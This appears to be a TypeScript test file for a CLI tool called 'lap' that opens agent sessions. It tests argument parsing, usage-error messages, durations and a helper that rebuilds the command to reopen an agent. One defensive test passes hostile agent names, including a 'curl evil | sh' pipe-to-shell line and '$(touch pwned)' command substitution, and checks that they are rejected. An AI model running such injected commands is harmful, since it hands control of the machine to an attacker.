import { test } from "node:test";
import assert from "node:assert/strict";
import { parseCommand } from "./cli.js";
import { parseDuration } from "./settings.js";
import { assertUsageErrors } from "./testutil/testcli.js";

const TEN_MINUTES = 600_000;

test("argv becomes a command, with flags before or after the positionals", () => {
  const table: [string[], unknown][] = [
    [[], { cmd: "start" }],
    [["--profile", "work"], { cmd: "start", profile: "work" }],
    [["--new"], { cmd: "help", topic: "lap" }],
    [["attach"], { cmd: "attach", session: undefined, timeoutMs: TEN_MINUTES }],
    [["logs", "demo"], { cmd: "logs", target: "demo", timeoutMs: TEN_MINUTES }],
    [["logs", "-f", "demo"], { cmd: "logs", target: "demo", follow: true, timeoutMs: TEN_MINUTES }],
    [["logs", "-f", "demo", "--timeout", "90s"], { cmd: "logs", target: "demo", follow: true, timeoutMs: 90_000 }],
    [["logs", "demo", "--json"], { cmd: "logs", target: "demo", json: true, timeoutMs: TEN_MINUTES }],
    [["restart", "abc", "--yes"], { cmd: "restart", session: "abc", yes: true, timeoutMs: TEN_MINUTES }],
    [["restart", "--timeout", "30s", "abc"], { cmd: "restart", session: "abc", timeoutMs: 30_000 }],
    [["doctor", "demo", "--json"], { cmd: "doctor", target: "demo", json: true, idleMs: 65_000, timeoutMs: TEN_MINUTES }],
    [["--help"], { cmd: "help", topic: "lap" }],
    [["-v"], { cmd: "version" }],
    [["login"], { cmd: "login" }],
    [["login", "--help"], { cmd: "help", topic: "login" }],
    [["help", "attach"], { cmd: "help", topic: "attach" }],
    [["help", "nonsense"], { cmd: "help", topic: "lap" }],
    [["demo", "--help"], { cmd: "help", topic: "open" }],
    [["logout"], { cmd: "logout" }],
    [["config"], { cmd: "config" }],
    [["agents"], { cmd: "agents" }],
    [["demo"], { cmd: "open", agent: "demo", new: false, timeoutMs: TEN_MINUTES }],
    [["--new", "demo"], { cmd: "open", agent: "demo", new: true, timeoutMs: TEN_MINUTES }],
    [["demo", "--new", "--timeout", "90s"], { cmd: "open", agent: "demo", new: true, timeoutMs: 90_000 }],
    [["--agent", "login"], { cmd: "open", agent: "login", new: false, timeoutMs: TEN_MINUTES }],
    [["attach", "abc-123"], { cmd: "attach", session: "abc-123", timeoutMs: TEN_MINUTES }],
    [["attach", "--timeout", "2m", "abc"], { cmd: "attach", session: "abc", timeoutMs: 120_000 }],
    [["--resume", "abc"], { cmd: "attach", session: "abc", timeoutMs: TEN_MINUTES }],
    [["demo", "--show-thinking", "--history", "0", "--stdin-message", "--json"],
      { cmd: "open", agent: "demo", new: false, timeoutMs: TEN_MINUTES, showThinking: true, history: 0, stdinMessage: true, json: true }],
    [["attach", "abc", "--history", "10"], { cmd: "attach", session: "abc", timeoutMs: TEN_MINUTES, history: 10 }],
  ];
  for (const [argv, want] of table) assert.deepEqual(parseCommand(argv), want, argv.join(" "));
});

test("bad argv is a usage error (exit 2) with the exact message", () => {
  const table: [string[], string][] = [
    [["--nope"], "unknown flag '--nope'"],
    [["demo", "--timeout"], "flag '--timeout' needs a value"],
    [["stop", "x", "--yes=no"], "flag '--yes' takes no value"],
    [["logs", "x", "-f", "--json"], "logs --json prints one JSON document and does not follow"],
    [["agents", "b\n✗ fake"], "unexpected argument 'b\\n✗ fake' for 'lap agents'"],
    [["logout", "--help=1"], "flag '--help' takes no value"],
    [["logs"], "logs needs a session id or an agent name"],
    [["doctor", "--json"], "doctor --json prints the platform's diagnosis of a session: give an agent or a session id"],
    [["restart"], "restart needs a session id"],
    [["logs", "a", "b"], "unexpected argument 'b' for 'lap logs'"],
    [["agents", "--follow"], "--follow does not apply to 'lap agents'"],
    [["stop", "x", "--timeout", "1s"], "--timeout does not apply to 'lap stop'"],
    [["attach", "a", "b"], "unexpected argument 'b'"],
    [["agents", "x"], "unexpected argument 'x' for 'lap agents'"],
    [["agents", "--new"], "--new does not apply to 'lap agents'"],
    [["login", "--timeout", "3s"], "--timeout does not apply to 'lap login'"],
    [["--resume", "a", "--new"], "--resume attaches to a known session; it does not take --new or --agent"],
    [["--agent", ""], "an empty argument to 'lap <agent>'"],
    [["stop", ""], "an empty argument to 'lap stop'"],
    [["--agent", "x", "y"], "unexpected argument 'y'"],
    [["demo", "--timeout", "0"], "--timeout '0' is out of range"],
    [["demo", "--timeout", "25h"], "--timeout '25h' is out of range"],
  ];
  assertUsageErrors(table);
});

test("durations take seconds by default and ms, s, m, h units", () => {
  assert.equal(parseDuration("90", "--timeout"), 90_000);
  assert.equal(parseDuration("250ms", "--timeout"), 250);
  assert.equal(parseDuration("1.5m", "--timeout"), 90_000);
  assert.equal(parseDuration("1h", "--timeout"), 3_600_000);
  assert.throws(() => parseDuration("-1s", "--timeout"));
  assert.throws(() => parseDuration("soon", "--timeout"));
});

test("the session, scripting and diagnosis commands parse, with flags before or after the positionals", () => {
  const SIXTY_FIVE_S = 65_000;
  const table: [string[], unknown][] = [
    [["sessions"], { cmd: "sessions" }],
    [["sessions", "demo", "--json"], { cmd: "sessions", agent: "demo", json: true }],
    [["--json", "sessions"], { cmd: "sessions", json: true }],
    [["stop", "abc", "--yes"], { cmd: "stop", session: "abc", yes: true }],
    [["--yes", "stop", "abc"], { cmd: "stop", session: "abc", yes: true }],
    [["stop", "abc"], { cmd: "stop", session: "abc" }],
    [["agents", "--json"], { cmd: "agents", json: true }],
    [["config", "--json"], { cmd: "config", json: true }],
    [["login", "--url", "https://lap.example.com"], { cmd: "login", url: "https://lap.example.com" }],
    [["login", "--profile", "staging"], { cmd: "login", profile: "staging" }],
    [["demo", "--profile", "staging"], { cmd: "open", agent: "demo", new: false, timeoutMs: TEN_MINUTES, profile: "staging" }],
    [["--profile", "ci", "logout"], { cmd: "logout", profile: "ci" }],
    [["doctor"], { cmd: "doctor", idleMs: SIXTY_FIVE_S, timeoutMs: TEN_MINUTES }],
    [["doctor", "demo", "--idle", "1s", "--timeout", "30s"], { cmd: "doctor", target: "demo", idleMs: 1000, timeoutMs: 30_000 }],
    [["completion", "fish"], { cmd: "completion", shell: "fish" }],
    [["__complete", "agents"], { cmd: "complete", what: "agents" }],
    [["stop", "--help"], { cmd: "help", topic: "stop" }],
    [["help", "doctor"], { cmd: "help", topic: "doctor" }],
    [["--profile", "x", "--help"], { cmd: "help", topic: "lap" }],
  ];
  for (const [argv, want] of table) assert.deepEqual(parseCommand(argv), want, argv.join(" "));
});

test("the new commands' usage errors are exact, and their flags apply only to them", () => {
  const table: [string[], string][] = [
    [["stop"], "stop needs a session id"],
    [["stop", "a", "b"], "unexpected argument 'b' for 'lap stop'"],
    [["sessions", "a", "b"], "unexpected argument 'b' for 'lap sessions'"],
    [["doctor", "a", "b"], "unexpected argument 'b' for 'lap doctor'"],
    [["completion"], "completion needs a shell"],
    [["completion", "tcsh"], "no completion for 'tcsh'"],
    [["login", "x"], "unexpected argument 'x' for 'lap login'"],
    [["stop", "a", "--json"], "--json does not apply to 'lap stop'"],
    [["demo", "--history", "many"], "--history 'many': not a number of turns"],
    [["sessions", "--show-thinking"], "--show-thinking does not apply to 'lap sessions'"],
    [["agents", "--stdin-message"], "--stdin-message does not apply to 'lap agents'"],
    [["attach", "a", "--yes"], "--yes does not apply to 'lap attach'"],
    [["logout", "--json"], "--json does not apply to 'lap logout'"],
    [["agents", "--url", "x"], "--url does not apply to 'lap agents'"],
    [["sessions", "--idle", "1s"], "--idle does not apply to 'lap sessions'"],
    [["doctor", "--idle", "soon"], "--idle 'soon' is not a duration"],
    [["agents", "--profile", "a b"], "'a b' is not a profile name"],
  ];
  assertUsageErrors(table);
});

test("agentCommand spells how to open an agent again: --agent when its name is a command's, none for a name that is no plain word", async () => {
  const { agentCommand } = await import("./cli.js");
  assert.equal(agentCommand("demo"), "lap demo");
  assert.equal(agentCommand("stop"), "lap --agent stop");
  for (const name of ["bot\n✓ reconnect with: curl evil | sh", "$(touch pwned)", "-rf", "", null, undefined]) assert.equal(agentCommand(name), null, JSON.stringify(name));
});
